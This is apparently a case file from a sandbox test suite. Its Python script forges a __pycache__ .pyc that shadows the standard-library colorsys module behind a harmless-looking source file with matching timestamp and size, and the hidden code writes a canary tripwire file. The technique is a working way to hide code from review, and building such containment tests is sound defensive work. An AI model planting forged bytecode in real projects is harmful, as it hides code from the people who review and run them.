# /// case
# id = "H40e"
# title = "forged byte code"
# tries = "hides its code in __pycache__ behind a harmless source of the same time and size"
# limits = { wall_s = 15 }
# collect = ["colorsys.py", "__pycache__/colorsys.{tag}.pyc"]
# host_step = "python"
# endings = ["ok"]
# proof = "the tripwire on the host is not touched when the host works in the folder"
# watches = ["tripwire"]
# unconfined = "not run: the host's own step decides, with any tier"
# ///
import importlib.util
import marshal
import os

trip = f"import pathlib; pathlib.Path({os.environ['CANARY_TRIPWIRE']!r}).write_text('tripped')\n"
with open("colorsys.py", "w") as sink:
    sink.write("HARMLESS = 1\n")
os.utime("colorsys.py", (1_700_000_000, 1_700_000_000))
code = marshal.dumps(compile(trip, "colorsys.py", "exec"))
head = importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little") + (1_700_000_000).to_bytes(4, "little") + (13).to_bytes(4, "little")
os.mkdir("__pycache__")
with open(f"__pycache__/colorsys.{os.environ['CANARY_TAG']}.pyc", "wb") as sink:
    sink.write(head + code)
